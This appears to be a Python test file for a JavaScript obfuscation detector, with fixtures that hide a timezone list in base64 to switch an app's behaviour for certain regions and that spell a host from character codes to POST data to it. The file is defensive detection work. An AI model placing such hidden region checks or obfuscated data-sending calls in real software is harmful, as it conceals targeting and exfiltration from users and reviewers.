"""The JavaScript obfuscated-data front-end: decoded values become records, and a decoded list
an environment signal is compared with decides behaviour (critical), whatever the category of the
comparison (a region list as well as a host list)."""

from __future__ import annotations

import hashlib

from agentxray.analyze.behaviour.obfuscated import obfuscation_findings
from agentxray.analyze.interface import SourceUnit
from agentxray.analyze.js.analysis import analyse
from agentxray.analyze.js.deobfuscate.report import decoded_records
from agentxray.model import FileEntry

RULE = "js-obfuscated-data"

# ruleid: js-obfuscated-data (a hidden zone list compared with the user's timezone)
COMPARED = b"""const ZONES = JSON.parse(atob("WyJBc2lhL1NoYW5naGFpIiwiQXNpYS9VcnVtcWkiXQ=="));
export function pick() {
  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
  return ZONES.includes(tz) ? "lite" : "full";
}
"""
# ok: js-obfuscated-data stays medium (the same list decoded and only displayed)
SHOWN = b"""const ZONES = JSON.parse(atob("WyJBc2lhL1NoYW5naGFpIiwiQXNpYS9VcnVtcWkiXQ=="));
export function show() {
  console.log(ZONES.join(", "));
}
"""


def make_unit(data: bytes) -> SourceUnit:
    digest = hashlib.sha256(data).hexdigest()
    return SourceUnit(
        FileEntry(vpath="fixture.js", kind="javascript", size=len(data), sha256=digest), data
    )


def test_a_decoded_list_compared_with_the_timezone_is_critical() -> None:
    a = analyse(make_unit(COMPARED))
    (record,) = decoded_records(a, set())
    assert record.compared and record.values == ("Asia/Shanghai", "Asia/Urumqi")
    (found,) = obfuscation_findings(RULE, decoded_records(a, set()))
    assert (found.rule, found.location.line, found.severity) == (
        "js-obfuscated-data",
        1,
        "critical",
    )


def test_a_decoded_list_only_shown_is_merely_encoded() -> None:
    (found,) = obfuscation_findings(RULE, decoded_records(analyse(make_unit(SHOWN)), set()))
    assert (found.rule, found.location.line, found.severity) == ("js-obfuscated-data", 1, "medium")


# ok: js-obfuscated-data (a minified atob polyfill builds base64's alphabet from char codes)
POLYFILL = b"""!function(g){var A=String.fromCharCode.apply(null,[65,66,67,68,69,70,71,72,73,74,75,
76,77,78,79,80,81,82,83,84,85,86,87,88,89,90,97,98,99,100,101,102,103,104,105,106,107,108,109,110,
111,112,113,114,115,116,117,118,119,120,121,122,48,49,50,51,52,53,54,55,56,57,43,47]),T={};
for(var i=0;i<A.length;i++)T[A.charAt(i)]=i;g.atob||(g.atob=function(s){for(var o="",b=0,n=0,
k=0;k<s.length;k++)n=n<<6|T[s.charAt(k)],(b+=6)>=8&&(b-=8,o+=String.fromCharCode(n>>b&255));
return o})}(this);
"""
# ruleid: js-obfuscated-data (the same char-code idiom spelling a host)
CHAR_CODE_HOST = b"""var H=String.fromCharCode.apply(null,[109,105,114,114,111,114,46,101,120,
97,109,112,108,101,46,116,101,115,116]);
export function send(d){return fetch("https://"+H+"/in",{method:"POST",body:d})}
"""


def test_a_polyfills_char_code_alphabet_is_not_hidden_data() -> None:
    assert obfuscation_findings(RULE, decoded_records(analyse(make_unit(POLYFILL)), set())) == []


def test_char_codes_spelling_a_host_are_hidden_data() -> None:
    (found,) = obfuscation_findings(
        RULE, decoded_records(analyse(make_unit(CHAR_CODE_HOST)), set())
    )
    assert (found.rule, found.location.line) == (RULE, 1)
    assert found.decoded == ("mirror.example.test",)
